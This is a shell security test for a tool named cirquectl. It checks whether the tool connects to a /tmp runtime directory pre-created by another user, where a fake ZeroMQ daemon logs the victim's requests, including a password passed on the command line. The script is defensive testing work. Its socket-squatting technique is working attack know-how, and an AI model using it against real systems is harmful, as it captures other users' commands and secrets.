# Attack: cirquectl talks to whatever listens in a runtime directory someone else made. Without
# XDG_RUNTIME_DIR (su, cron, ssh without pam_systemd), a user's cirqued and cirquectl both use
# /tmp/cirque-UID. Anyone can create that directory first (after each boot /tmp is empty):
# cirqued then refuses it (owned by another uid), but cirquectl does not look. It connects to the
# attacker's socket there, sends every command (with whatever the user passes: command lines,
# environment values) and prints the replies the attacker writes ("web: added").
# Here the user is an otherwise unused uid, the attacker nobody with a ZeroMQ ROUTER socket.
# Expected: cirquectl refuses an endpoint directory that is not its user's (or root's) or that
# others can write, as cirqued does, and sends nothing there.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/attack_lib.sh"

PY=/usr/bin/python3
"$PY" -c 'import zmq' 2>/dev/null || { echo "skipped: needs python3-zmq"; exit 0; }

VICTIM_UID=$((300000 + $$ % 100000))
RUNDIR=/tmp/cirque-$VICTIM_UID
[ -e "$RUNDIR" ] && { echo "skipped: $RUNDIR exists"; exit 0; }
trap 'rc=$?; rm -rf "$RUNDIR"; (exit $rc); cleanup' EXIT

# The attacker's fake daemon: records each request, answers "ok" to everything.
cat >"$T/fake.py" <<'PY'
import json, os, sys, zmq
os.umask(0)  # a socket anyone may connect to
endpoint, log = sys.argv[1], sys.argv[2]
ctx = zmq.Context()
s = ctx.socket(zmq.ROUTER)  # as cirqued: cirquectl is a DEALER
s.bind(endpoint)
open(log + ".up", "w").close()
while True:
    peer, req = s.recv_multipart()
    with open(log, "ab") as f:
        f.write(req + b"\n")
    r = json.loads(req)
    s.send_multipart([peer, json.dumps({"id": r.get("id"), "status": "ok"}).encode()])
PY
chmod 644 "$T/fake.py"
as_nobody mkdir -m 755 "$RUNDIR" || fail "nobody cannot create $RUNDIR"
mkdir -m 755 "$T/att"
chown "$NOBODY" "$T/att"
"${AS_NOBODY[@]}" "$PY" "$T/fake.py" "ipc://$RUNDIR/control.sock" "$T/att/requests" &
wait_for 5 '[ -e "$T/att/requests.up" ]' || fail "the fake daemon did not start"

# The victim asks its (it believes) daemon something, with a secret on the command line.
out=$(env -u XDG_RUNTIME_DIR -u CIRQUE_RUNTIME_DIR -u CIRQUE_ENDPOINT HOME=/ \
	setpriv --reuid="$VICTIM_UID" --regid="$VICTIM_UID" --clear-groups -- \
	"$CTL" --timeout 3 add web /usr/bin/app --password=hunter2 2>&1)
note "cirquectl said: $(echo "$out" | head -n 2 | tr '\n' '|')"
if grep -qs . "$T/att/requests"; then
	attack_succeeded "cirquectl (uid $VICTIM_UID) sent its request to nobody's $RUNDIR/control.sock: $(head -c 200 "$T/att/requests" | tr '\n' '|')"
fi
finish
